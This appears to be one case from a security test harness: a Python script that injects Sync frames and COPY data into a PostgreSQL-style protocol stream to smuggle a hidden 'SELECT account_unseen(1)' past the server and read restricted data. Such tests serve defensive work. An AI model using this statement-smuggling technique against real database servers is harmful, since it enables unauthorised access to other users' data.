"""Sends Syncs that a COPY swallows, and a statement behind them."""

from attacks.frames import SYNC, ask, message, whole
from attacks.talking import Server
from raw_client import copy_data

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        data = SYNC + copy_data(b"77\tx\n") + SYNC + message(b"c", b"") + SYNC
        return ask(
            client,
            whole(b"COPY mallory_own FROM STDIN"),
            data,
            whole(b"SELECT account_unseen(1)"),
            SYNC,
            rounds=2,
        )
